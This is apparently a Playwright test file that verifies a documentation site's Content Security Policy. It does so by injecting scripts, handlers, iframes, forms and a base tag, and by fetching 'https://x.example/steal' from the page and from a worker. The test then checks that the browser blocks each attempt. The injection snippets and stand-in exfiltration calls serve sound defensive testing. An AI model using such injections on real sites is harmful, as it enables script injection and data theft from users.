/** The content policy as a page lives under it: what it stops, and that a test notices. */
import {open} from './open';
import {SHELL} from './shell/site';
import {expect, type Page, test} from './test';

/** What somebody might get into a page, by the directive that stops it. */
const ATTACKS: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'script-src': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.head.append(script);
    }),
  'script-src-attr': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<b onclick="window.attacked = true">x</b>');
      // Some versions of Chromium look at the handler only when it is about to run.
      (document.body.lastElementChild as HTMLElement).click();
    }),
  'script-src-elem': (page) =>
    page.evaluate(() => {
      document.head.append(
        Object.assign(document.createElement('script'), {src: '//x.example/a.js'}),
      );
    }),
  'style-src': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0">x</p>');
    }),
  'connect-src': (page) =>
    page.evaluate(() => fetch('https://x.example/steal').catch(() => undefined)),
  'img-src': (page) => page.evaluate(() => void (new Image().src = 'https://x.example/pixel.gif')),
  'frame-src': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<iframe src="https://x.example/"></iframe>');
    }),
  'font-src': (page) =>
    page.evaluate(() => new FontFace('x', 'url(https://x.example/a.woff2)').load().catch(() => 0)),
  'worker-src': (page) =>
    page.evaluate(() => {
      try {
        new Worker(URL.createObjectURL(new Blob(['self.x = 1'])));
      } catch {
        // Some versions throw, others fire an event.
      }
    }),
  'form-action': (page) =>
    page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://x.example/';
      document.body.append(form);
      form.submit();
    }),
  'base-uri': (page) =>
    page.evaluate(() => {
      document.head.append(Object.assign(document.createElement('base'), {href: '//x.example/'}));
    }),
};

for (const [directive, attack] of Object.entries(ATTACKS)) {
  test.describe(directive, () => {
    const words = directive.replace(/-(attr|elem)$/, '');
    // What becomes of `fetch` the browser says twice, the second time without the directive.
    const said = directive === 'connect-src' ? /connect-src|Refused to connect/ : new RegExp(words);
    test.use({expectedViolations: [said]});

    test('stops what it is for, and the test notices', async ({page, violations}) => {
      await open(page, '/docs/quickstart');
      expect(violations).toEqual([]);
      await attack(page);
      await expect.poll(() => violations).not.toEqual([]);
      expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    });
  });
}

test.describe('in a worker', () => {
  test.use({expectedViolations: [/A worker broke .* connect-src https:\/\/x\.example/]});

  test('the same policy counts, and the test notices', async ({page, violations}) => {
    const started = page.waitForEvent('worker');
    await open(page, '/search?q=lineage');
    const worker = await started;
    await worker.evaluate(() => fetch('https://x.example/steal').catch(() => undefined));
    await expect.poll(() => violations).toHaveLength(1);
  });
});

test.fail('a test that does not expect a violation fails by it', async ({page, violations}) => {
  await open(page, '/docs/quickstart');
  await ATTACKS['script-src']?.(page);
  await expect.poll(() => violations).not.toEqual([]);
});

test.describe('in a context of its own, without scripts', () => {
  test.fail('a test fails by a violation too', async ({browser, baseURL, violations}) => {
    const context = await browser.newContext({javaScriptEnabled: false});
    const page = await context.newPage();
    await page.route('**/docs/quickstart', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<p style="color: red">x</p></body>');
      await route.fulfill({response, body});
    });
    await page.goto(`${baseURL}/docs/quickstart`);
    await expect.poll(() => violations).not.toEqual([]);
    await context.close();
  });
});

test('the policy names a digest for each script inside of a page', async ({request}) => {
  const response = await request.get('/docs/quickstart');
  const policy = response.headers()['content-security-policy'] ?? '';
  expect(policy).not.toMatch(/unsafe-(?:inline|eval|hashes)|[ ]\*(?:[ ;]|$)/);
  expect(policy).toMatch(/script-src 'self'(?: 'sha256-[\w+/]+=')+;/);
});

test('a build with services allows their hosts and no others', async ({request}) => {
  const policy = (await request.get(SHELL)).headers()['content-security-policy'] ?? '';
  const hostsOf = (directive: string) =>
    new RegExp(`(?:^|; )${directive} ([^;]*)`).exec(policy)?.[1]?.split(' ');
  // One service for each directive; the script of the calendar, for instance, is nobody's to load.
  expect(hostsOf('connect-src')).toContain('https://*.algolianet.com');
  expect(hostsOf('script-src')).toContain('https://widget.example');
  expect(hostsOf('script-src')).not.toContain('https://calendar.example');
  expect(hostsOf('frame-src')).toEqual([
    'https://calendar.example',
    'https://calendly.com',
    'https://forms.example',
  ]);
});
